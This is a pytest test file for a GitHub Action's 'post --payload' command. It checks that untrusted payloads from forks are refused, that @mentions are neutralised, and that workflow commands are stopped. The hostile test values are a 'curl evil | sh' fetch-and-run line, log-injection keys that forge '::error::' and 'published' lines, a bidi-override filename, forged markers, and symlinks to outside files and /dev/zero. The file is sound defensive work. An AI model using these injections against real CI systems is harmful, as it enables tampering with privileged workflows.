"""`rodeo post --payload F`: a payload is untrusted data. Anything off → exit 2, one line, nothing published;
what can be made harmless (an @mention) is, and said; GitHub failing after retries → exit 3."""

from __future__ import annotations

import json
import os
import tracemalloc
from pathlib import Path
from typing import Any

import pytest

from rodeo_action.errors import InputError
from rodeo_action.github import payload as P
from tests import fakegithub
from tests.fakegithub import FakeGitHub
from tests.ghscenario import TOKEN, Rodeo

fake_github = fakegithub.fake_github
MARKER = "<!-- rodeo:comment id=demo -->"


def good(fake: FakeGitHub, pr: int) -> dict[str, Any]:
    return {"schema": 1, "kind": "rodeo-publish", "repository": fake.repo_name, "pr": pr, "rodeo": "demo",
            "body": f"{MARKER}\n## 🤠 rodeo demo\n", "digest": "", "reason": "fork"}


def post(tmp: Path, fake: FakeGitHub, data: Any, dry_run: bool = False, **kw: Any) -> Any:
    path = tmp / "rodeo-publish.json"
    path.write_bytes(data if isinstance(data, bytes) else json.dumps(data).encode())
    return Rodeo(tmp, fake).cli("post", "--payload", str(path), *(["--dry-run"] if dry_run else []), **kw)


def test_a_good_payload_is_published_once(tmp_path: Path, fake_github: FakeGitHub) -> None:
    n = fake_github.open_pr()
    for _ in range(2):
        run = post(tmp_path, fake_github, good(fake_github, n))
        assert run.code == 0, run.err
    (c,) = fake_github.comments(n)
    assert c.body == good(fake_github, n)["body"] and TOKEN not in run.text


def run_event(fake: FakeGitHub, n: int, **over: Any) -> dict[str, Any]:
    """The workflow_run event of the run that built PR ``n`` (what GitHub writes: not the fork's to choose)."""
    pull = fake.pulls[n]
    run = {"head_sha": pull.head_sha, "head_branch": pull.head, "event": "pull_request",
           "head_repository": {"full_name": pull.head_repo or fake.repo_name}}
    return {"workflow_run": {**run, **over}}


@pytest.mark.parametrize("case", ["wrong repo", "not open", "no such pr", "an issue", "no marker", "marker later",
                                  "oversized", "not json", "extra key", "bool pr", "digest not in body",
                                  "nan", "duplicate key", "other commit", "truncated", "future schema",
                                  "forged marker", "forged marker spaced", "forged issue marker", "second digest",
                                  "bell", "bidi override", "another fork at the same commit", "another branch",
                                  "newline in a key"])
def test_hostile_payloads_exit_2_and_publish_nothing(tmp_path: Path, fake_github: FakeGitHub, case: str) -> None:
    n = fake_github.open_pr()
    issue = fake_github.add_issue("just an issue")
    data: Any = good(fake_github, n)
    kw: dict[str, Any] = {}
    if case == "wrong repo":
        data["repository"] = "someone/else"
    elif case == "not open":
        fake_github.issue(n).state = "closed"
    elif case == "no such pr":
        data["pr"] = 999
    elif case == "an issue":
        data["pr"] = issue
    elif case == "no marker":
        data["body"] = "@everyone click here"
    elif case == "marker later":
        data["body"] = "hello " + MARKER
    elif case == "oversized":
        data["body"] = MARKER + "x" * 600_000
    elif case == "not json":
        data = b"{{ not json"
    elif case == "extra key":
        data["run"] = "curl evil | sh"
    elif case == "bool pr":
        data["pr"] = True
    elif case == "digest not in body":
        data["digest"] = "[rodeo-digest-demo]: data:application/gzip;base64,AAAA"
    elif case == "nan":
        data = json.dumps(data).replace('"pr": 1', '"pr": NaN').encode()
    elif case == "duplicate key":
        data = json.dumps(data).replace('"pr": 1,', '"pr": 1, "pr": 2,').encode()
    elif case == "other commit":
        kw = {"event": "workflow_run", "payload": {"workflow_run": {"head_sha": "0" * 40}}}
    elif case == "truncated":
        text = json.dumps(data)
        data = text[: len(text) // 2].encode()
    elif case == "future schema":
        data.update(schema=2, comments=[{"pr": n, "body": "x"}])
    elif case == "forged marker":           # another rodeo would take this comment for its own
        data["body"] += "\n<!-- rodeo:comment id=other -->\n"
    elif case == "forged marker spaced":
        data["body"] += "\n<!--   RODEO :comment -->"
    elif case == "forged issue marker":
        data["body"] += "\n<!-- rodeo:issue id=demo key=package:numpy -->"
    elif case == "second digest":           # a poisoned baseline for the next run
        data["body"] += "\n[rodeo-digest-demo]: data:application/gzip;base64,AAAA\n"
    elif case == "bell":
        data["body"] += "ding\x07"
    elif case == "bidi override":
        data["body"] += "safe\u202etxt.exe"
    elif case == "another fork at the same commit":  # a fork opens a PR at another PR's commit
        kw = {"event": "workflow_run", "payload": run_event(fake_github, n, head_repository={
            "full_name": "stranger/rodeo"})}
    elif case == "another branch":
        kw = {"event": "workflow_run", "payload": run_event(fake_github, n, head_branch="other")}
    elif case == "newline in a key":        # its own line in the privileged job's log
        data["x\n::error::pwned\nrodeo: published: comment on #1 created"] = 1
    run = post(tmp_path, fake_github, data, **kw)
    assert run.code == 2, (case, run.err)
    assert "Traceback" not in run.text and not any(line.startswith("::") or line.startswith("rodeo: published")
                                                   for line in run.err.splitlines()), run.err
    assert all(r.method == "GET" for r in fake_github.requests), case
    assert fake_github.comments(n) == [] and fake_github.comments(issue) == []
    assert TOKEN not in run.text


def test_a_5xx_that_keeps_failing_exits_3(tmp_path: Path, fake_github: FakeGitHub) -> None:
    n = fake_github.open_pr()
    fake_github.fail("POST", r"/comments$", 502, times=10)
    run = post(tmp_path, fake_github, good(fake_github, n))
    assert run.code == 3 and f"FAILED: comment on #{n}: HTTP 502" in run.err
    assert fake_github.comments(n) == []


def test_a_good_payload_from_a_fork_under_workflow_run(tmp_path: Path, fake_github: FakeGitHub) -> None:
    n = fake_github.open_pr(head_repo="stranger/rodeo")
    run = post(tmp_path, fake_github, good(fake_github, n), event="workflow_run",
               payload=run_event(fake_github, n))
    assert run.code == 0, run.err
    assert len(fake_github.comments(n)) == 1


@pytest.mark.parametrize("case", ["wrong name", "symlink out", "symlink in", "fifo", "folder", "device",
                                  "dir symlink out", "missing"])
def test_hostile_files_are_refused_before_they_are_read(tmp_path: Path, fake_github: FakeGitHub, case: str) -> None:
    """The artifact is the fork's: a link to a file of the privileged job (its content would be echoed in
    schema messages), a FIFO (a read that never ends), a device (endless), another file of the artifact."""
    n = fake_github.open_pr()
    work, elsewhere = tmp_path / "work", tmp_path / "elsewhere"
    work.mkdir()
    elsewhere.mkdir()
    (elsewhere / P.FILENAME).write_text(json.dumps(good(fake_github, n)))   # valid: refused for where it is
    arg = P.FILENAME
    target = work / P.FILENAME
    if case == "wrong name":
        arg = "results.json"
        (work / arg).write_text(json.dumps(good(fake_github, n)))
    elif case == "symlink out":
        target.symlink_to(elsewhere / P.FILENAME)
    elif case == "symlink in":
        (work / "real.json").write_text(json.dumps(good(fake_github, n)))
        target.symlink_to(work / "real.json")
    elif case == "fifo":
        os.mkfifo(target)
    elif case == "folder":
        target.mkdir()
    elif case == "device":
        target.symlink_to("/dev/zero")
    elif case == "dir symlink out":
        (work / "artifact").symlink_to(elsewhere)
        arg = f"artifact/{P.FILENAME}"
    run = Rodeo(work, fake_github).cli("post", "--payload", arg)
    assert run.code == 2, (case, run.err)
    assert len(run.err.strip().splitlines()) == 1 and "--payload" in run.err, run.err
    assert fake_github.requests == [] and TOKEN not in run.text


def test_a_100_mb_payload_is_refused_without_reading_it(tmp_path: Path) -> None:
    path = tmp_path / P.FILENAME
    with path.open("wb") as fh:
        fh.truncate(100 * 1024 * 1024)                   # sparse: 100 MB that cost no disk
    tracemalloc.start()
    try:
        with pytest.raises(InputError, match="104,857,600 bytes; expected at most 524,288"):
            P.load(path, "octo/rodeo")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 256 * 1024, peak
    path.write_bytes(b"[" * 100_000 + b"]" * 100_000)   # deep nesting within the cap: refused, no crash
    with pytest.raises(InputError, match="not a JSON payload"):
        P.load(path, "octo/rodeo")


def test_mentions_are_neutralised_and_said_code_left_alone(tmp_path: Path, fake_github: FakeGitHub) -> None:
    n = fake_github.open_pr()
    data = good(fake_github, n)
    data["body"] += "cc @octocat and @acme/security-team, mail ops@example.com\n````\n@kept in code\n````\n"
    run = post(tmp_path, fake_github, data)
    assert run.code == 0, run.err
    assert "2 @mention(s) in the payload's body neutralised" in run.err
    (c,) = fake_github.comments(n)
    assert "@\u200boctocat" in c.body and "@\u200bacme/security-team" in c.body
    assert "ops@example.com" in c.body and "\n@kept in code\n" in c.body
    again = post(tmp_path, fake_github, data)                  # the same payload: the same comment, unchanged
    assert again.code == 0 and f"comment on #{n} unchanged" in again.err and len(fake_github.comments(n)) == 1


def test_dry_run_shows_the_body_with_workflow_commands_stopped(tmp_path: Path, fake_github: FakeGitHub) -> None:
    n = fake_github.open_pr()
    data = good(fake_github, n)
    data["body"] += "::error::a fork's line\n::add-mask::x\n"
    run = post(tmp_path, fake_github, data, env={"GITHUB_ACTIONS": "true"}, dry_run=True)
    assert run.code == 0, run.err
    lines = run.out.splitlines()
    start = next(i for i, line in enumerate(lines) if line.startswith("::stop-commands::"))
    token = lines[start].split("::")[2]
    assert len(token) == 32 and lines.index(f"::{token}::") > lines.index("::error::a fork's line") > start
    assert fake_github.comments(n) == [] and all(r.method == "GET" for r in fake_github.requests)
